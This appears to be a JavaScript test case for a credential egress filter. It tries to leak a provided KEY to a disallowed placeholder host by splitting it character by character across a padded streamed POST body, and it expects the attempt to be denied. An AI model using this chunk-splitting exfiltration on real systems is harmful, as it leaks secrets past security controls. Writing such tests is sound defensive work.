export const attempt = {
  tries:
    "to send a value that it was given itself to another host, cut across the pieces of a stream",
  refusedBecause:
    "what could be the beginning of the value is held back until it is known not to be",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  mayBeSeen: ["POST /reached"],
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const pieces = ["x".repeat(300_000), ...credentials.KEY, "y".repeat(300_000)];
  const body = new ReadableStream({
    pull(controller) {
      const piece = pieces.shift();
      if (piece === undefined) controller.close();
      else controller.enqueue(new TextEncoder().encode(piece));
    },
  });
  await fetch(`http://${other}/reached`, { method: "POST", body });
  return "got through";
};
